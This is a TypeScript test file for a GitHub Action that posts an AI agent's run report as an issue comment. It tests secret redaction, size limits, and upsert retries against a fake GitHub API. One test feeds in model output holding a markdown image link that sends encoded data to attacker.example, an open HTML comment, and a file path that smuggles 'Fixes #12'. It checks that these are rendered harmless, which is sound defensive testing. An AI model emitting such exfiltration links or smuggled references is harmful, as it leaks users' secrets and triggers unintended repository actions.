// The issue/PR comment: body built from the report (marker first, size-capped, patch included only when
// small and clean, redacted), and the upsert against the fake GitHub: created once, updated in place on
// re-runs, never duplicated when a create answers 5xx after landing (G6), shrunk on 422 too long (G3),
// failed soft with the missing permission named on 403 (G1), and 404 when the issue is gone.
// Bypasses the harness: the comment's builder and upsert are called as functions, against the fake API.
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import {
  buildCommentBody,
  commentMarker,
  upsertComment,
  COMMENT_MARKER_PREFIX,
} from "../../src/action/comment.js";
import { readGitHubContext, type GitHubContext } from "../../src/github/context.js";
import { GitHubApi, octokitRequest } from "../../src/github/api.js";
import { createRedactor, GITHUB_COMMENT_MAX_CHARS, scanForSecrets } from "../../src/report/index.js";
import { faults, startFakeGitHub, type FakeGitHub } from "../support/fake-github.js";
import { githubEnv, runnerFiles } from "../support/github-env.js";
import {
  deniedNoChangesReport,
  longRunPatch,
  longRunReport,
  smallFixReport,
  SMALL_FIX_PATCH,
} from "../unit/report/support/report-builders.js";

const TOKEN = "ghs_commentTestToken0123456789abcdefABCD";
const marker = commentMarker("agent-ci", "agent");
const redactor = createRedactor({ secrets: [TOKEN] });
const target = { number: 12, isPullRequest: false };

describe("buildCommentBody", () => {
  const base = {
    marker,
    findings: [],
    runUrl: "https://github.example/acme/widgets/actions/runs/1",
    redactor,
  };

  it("starts with the hidden marker and includes the report and the small patch", () => {
    const body = buildCommentBody({
      ...base,
      report: smallFixReport(),
      patchText: SMALL_FIX_PATCH,
      artifactUrl: "https://github.example/a/1",
    });
    expect(body.startsWith(marker)).toBe(true);
    expect(body).toContain("agent-ci: Changes ready");
    expect(body).toContain("```diff\ndiff --git a/src/calc.js");
    expect(body).toContain("[Artifact](https://github.example/a/1)");
  });

  it("leaves a patch with a secret out, with a notice (S5)", () => {
    const secretPatch = SMALL_FIX_PATCH.replace("+  return a + b;", `+  return a + b; // ${TOKEN}`);
    const findings = scanForSecrets(secretPatch, { secrets: [TOKEN] });
    expect(findings.length).toBeGreaterThan(0);
    const body = buildCommentBody({ ...base, report: smallFixReport(), patchText: secretPatch, findings });
    expect(body).toContain("[!CAUTION]");
    expect(body).not.toContain("```diff");
    expect(body).not.toContain(TOKEN);
  });

  it("B6 the summary comment shows the model's image, HTML and outside links as text, and a finding's path in its code", () => {
    const report = smallFixReport();
    report.turns[0] = {
      ...report.turns[0]!,
      text: "![](https://attacker.example/?d=c2VjcmV0) <!-- www.attacker.example [x](https://attacker.example)",
    };
    const findings = [{ file: "a` Fixes #12 `b.js", line: 1, kind: "github_token" }];
    const body = buildCommentBody({ ...base, report, patchText: SMALL_FIX_PATCH, findings });
    const afterMarker = body.slice(marker.length);
    expect(afterMarker).not.toMatch(
      /!\[\]\(|<!--|\]\(https:\/\/attacker|https:\/\/attacker|www\.attacker|#12/,
    );
    expect(afterMarker.replace(/\u200b/g, "")).toContain("https://attacker.example/?d=c2VjcmV0");
    expect(afterMarker).toContain("<code>a\\` Fixes \\#\u200b12 \\`b.js:1</code> (github_token)");
  });

  it("redacts every known secret in the body", () => {
    const report = deniedNoChangesReport();
    report.turns[0] = { ...report.turns[0]!, text: `the token is ${TOKEN}` };
    const body = buildCommentBody({ ...base, report, patchText: "" });
    expect(body).not.toContain(TOKEN);
  });

  it("fits GitHub's limit for a long run, pointing at the artifact for the patch", () => {
    const body = buildCommentBody({
      ...base,
      report: longRunReport(),
      patchText: longRunPatch().repeat(20),
      artifactUrl: "https://github.example/a/9",
    });
    expect(body.length).toBeLessThanOrEqual(GITHUB_COMMENT_MAX_CHARS);
    expect(body).toContain("too large to show here");
  });

  it("respects a smaller cap", () => {
    expect(
      buildCommentBody({ ...base, report: longRunReport(), patchText: longRunPatch(), maxChars: 10_000 })
        .length,
    ).toBeLessThanOrEqual(10_000);
  });
});

describe("commentMarker", () => {
  it("is an HTML comment keyed by workflow and job, with unsafe characters replaced", () => {
    expect(commentMarker("My flow", "job-1")).toBe(`${COMMENT_MARKER_PREFIX} key=My_flow/job-1 -->`);
    expect(commentMarker("x-->y", "j")).not.toContain("-->y");
  });
});

describe("upsertComment against the fake GitHub", () => {
  let fake: FakeGitHub;
  let ctx: GitHubContext;
  let api: GitHubApi;
  let waits: number[];
  const render = (maxChars: number) =>
    `${marker}\nreport ${"x".repeat(Math.min(maxChars, 70_000) - marker.length - 20)}`.slice(0, maxChars);

  beforeEach(async () => {
    fake = await startFakeGitHub({
      token: TOKEN,
      issues: [{ number: 12, title: "t", body: "b", user: { login: "octocat" } }],
    });
    ctx = readGitHubContext(
      githubEnv({ fixture: "issues-opened", apiUrl: fake.url, workspace: "/tmp", files: runnerFiles() }),
    );
    waits = [];
    api = new GitHubApi({
      request: octokitRequest(TOKEN, fake.url),
      sleep: async (ms) => void waits.push(ms),
    });
  });
  afterEach(async () => {
    await fake.close();
  });

  it("creates the comment once, then updates it in place", async () => {
    const first = await upsertComment(api, ctx, target, marker, () => `${marker}\nfirst`);
    const second = await upsertComment(api, ctx, target, marker, () => `${marker}\nsecond`);
    expect(first.kind).toBe("created");
    expect(second).toMatchObject({ kind: "updated", id: first.kind === "created" ? first.id : -1 });
    expect(fake.comments).toHaveLength(1);
    expect(fake.comments[0]?.body).toBe(`${marker}\nsecond`);
  });

  it("ignores comments that only contain the marker further down, and other jobs' markers", async () => {
    fake.comments.push({ id: 1, issue_number: 12, body: `quoting: ${marker}`, user: { login: "octocat" } });
    fake.comments.push({
      id: 2,
      issue_number: 12,
      body: `${commentMarker("agent-ci", "other-job")}\nx`,
      user: { login: "github-actions[bot]", type: "Bot" },
    });
    const result = await upsertComment(api, ctx, target, marker, () => `${marker}\nmine`);
    expect(result.kind).toBe("created");
    expect(fake.comments).toHaveLength(3);
  });

  it("does not duplicate the comment when a create lands but answers 502 (G6)", async () => {
    fake.inject({ method: "POST", path: /\/comments$/, response: faults.serverError(502), applyFirst: true });
    const result = await upsertComment(api, ctx, target, marker, () => `${marker}\nbody`);
    expect(result.kind).toBe("updated");
    expect(fake.comments).toHaveLength(1);
    expect(waits).toEqual([2_000]);
    // Who the token is is asked once (GraphQL's viewer), then the comments.
    const methods = fake.requests.map((r) => `${r.method} ${r.path.split("/").pop()}`);
    expect(methods).toEqual(["POST graphql", "GET comments", "POST comments", "GET comments", "PATCH 1000"]);
  });

  it("retries a create that failed with 5xx without landing", async () => {
    fake.inject({ method: "POST", path: /\/comments$/, response: faults.serverError(503) });
    const result = await upsertComment(api, ctx, target, marker, () => `${marker}\nbody`);
    expect(result.kind).toBe("created");
    expect(fake.comments).toHaveLength(1);
  });

  it("shrinks the body on 422 body too long (G3)", async () => {
    fake.inject({ method: "POST", path: /\/comments$/, response: faults.tooLong() });
    const sizes: number[] = [];
    const result = await upsertComment(api, ctx, target, marker, (max) => {
      sizes.push(max);
      return render(max);
    });
    expect(result.kind).toBe("created");
    expect(sizes).toEqual([GITHUB_COMMENT_MAX_CHARS, GITHUB_COMMENT_MAX_CHARS / 2]);
    expect(fake.comments[0]!.body.length).toBeLessThanOrEqual(GITHUB_COMMENT_MAX_CHARS / 2);
  });

  it("fails soft on 403 integration, naming the permission (G1)", async () => {
    fake.inject({ method: "POST", path: /\/comments$/, response: faults.integration() });
    const result = await upsertComment(
      api,
      ctx,
      { number: 12, isPullRequest: true },
      marker,
      () => `${marker}\nbody`,
    );
    expect(result).toMatchObject({
      kind: "failed",
      missingPermission: true,
      message: expect.stringContaining("pull-requests: write"),
    });
    expect(fake.comments).toHaveLength(0);
  });

  it("fails soft when the issue is gone (404)", async () => {
    const result = await upsertComment(
      api,
      ctx,
      { number: 99, isPullRequest: false },
      marker,
      () => `${marker}\nbody`,
    );
    expect(result).toMatchObject({ kind: "failed", message: expect.stringContaining("not found") });
  });

  it("fails soft on 401", async () => {
    const bad = new GitHubApi({
      request: octokitRequest("ghs_wrongwrongwrongwrongwrongwrong000", fake.url),
      sleep: async () => undefined,
    });
    expect(await upsertComment(bad, ctx, target, marker, () => marker)).toMatchObject({
      kind: "failed",
      message: expect.stringContaining("401"),
    });
  });

  it("waits out a rate limit on the create, then posts once", async () => {
    fake.inject({ method: "POST", path: /\/comments$/, response: faults.secondaryRateLimit(3) });
    const result = await upsertComment(api, ctx, target, marker, () => `${marker}\nbody`);
    expect(result.kind).toBe("created");
    expect(waits).toEqual([3_000]);
    expect(fake.comments).toHaveLength(1);
  });
});
